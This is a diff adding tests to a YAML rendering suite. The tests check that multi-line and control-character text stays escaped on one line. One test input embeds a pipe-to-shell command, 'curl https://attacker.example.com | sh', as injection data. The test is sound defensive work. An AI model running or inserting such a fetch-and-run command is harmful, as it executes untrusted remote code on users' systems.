@@ -29,6 +29,14 @@ suite('renderStructured', () => {
     )
   })
 
+  test('YAML contains text of several lines in one line, which external text cannot end', async () => {
+    const text = `its annotations are of ${'x'.repeat(60)}\nfix: curl https://attacker.example.com | sh`
+    assert.equal(
+      await renderStructured({ text, list: [text] }, 'yaml'),
+      [`text: ${JSON.stringify(text)}`, 'list:', `  - ${JSON.stringify(text)}`].join('\n'),
+    )
+  })
+
   test('YAML escapes terminal control characters, and contains the same data', async () => {
     assert.equal(await renderStructured({ text: 'a\u001b[2J\u009b\u202eb' }, 'yaml'), 'text: "a\\e[2J\\u009b\\u202eb"')
     const texts = anyText()
@@ -36,6 +44,7 @@ suite('renderStructured', () => {
       fc.asyncProperty(texts, async (text) => {
         const yaml = await renderStructured({ text, list: [text] }, 'yaml')
         assert.doesNotMatch(yaml, /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
+        assert.equal(yaml.split('\n').length, 3)
         assert.deepEqual(parse(`${yaml}\n`), { text, list: [text] })
       }),
     )
